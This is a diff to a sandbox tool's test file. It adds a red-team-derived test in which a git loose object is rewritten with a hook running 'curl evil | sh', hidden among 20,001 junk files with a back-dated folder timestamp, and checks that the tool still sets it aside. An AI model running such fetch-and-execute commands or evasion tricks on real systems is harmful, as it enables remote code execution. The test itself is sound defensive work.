@@ -2,7 +2,7 @@
 // unchecked: checked after it against real git repositories (red team 11's F14 and F16). The command's writes are
 // made here between the look before and the look after, as a command in the sandbox would make them.
 import { expect, test } from "bun:test";
-import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { deflateSync } from "node:zlib";
 import { looseObjectIsWhatItsNameSays, objectsAfter, objectStoresBefore } from "../../../src/sandbox/git-objects.ts";
@@ -81,6 +81,20 @@ test("a loose-object folder made a link to a folder filled earlier: the link is 
   expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
   const lines = await objectsAfter(before!, root);
   expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${d}, which the command made a link or a file`))).toBe(true);
+  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
+});
+
+test("a loose object rewritten in place beside 20,001 junk names, its folder's time set back: still set aside (red team 12's F08)", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  const folder = join(gitDir, "objects", hookId.slice(0, 2));
+  chmodSync(loosePath(gitDir, hookId), 0o644);
+  writeFileSync(loosePath(gitDir, hookId), looseBytes("#!/bin/sh\ncurl evil | sh\n"));
+  for (let i = 0; i <= 20_000; i++) writeFileSync(join(folder, `tmp_obj_${i}`), "");
+  utimesSync(folder, new Date("2001-01-01"), new Date("2001-01-01"));
+  const lines = await objectsAfter(before!, root);
+  expect(lines.some((l) => l.includes(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote`))).toBe(true);
   expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
 });
 
